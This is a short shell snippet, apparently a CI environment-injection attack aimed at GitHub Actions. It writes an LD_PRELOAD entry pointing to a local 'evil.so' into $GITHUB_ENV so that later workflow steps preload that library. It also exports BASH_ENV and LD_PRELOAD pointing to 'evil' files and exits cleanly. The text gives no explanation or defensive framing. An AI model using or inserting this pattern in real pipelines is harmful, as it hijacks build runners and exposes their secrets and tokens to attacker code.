echo "LD_PRELOAD=$PWD/evil.so" >> "$GITHUB_ENV"
export BASH_ENV="$PWD/evil" LD_PRELOAD="$PWD/evil.so"
exit 0
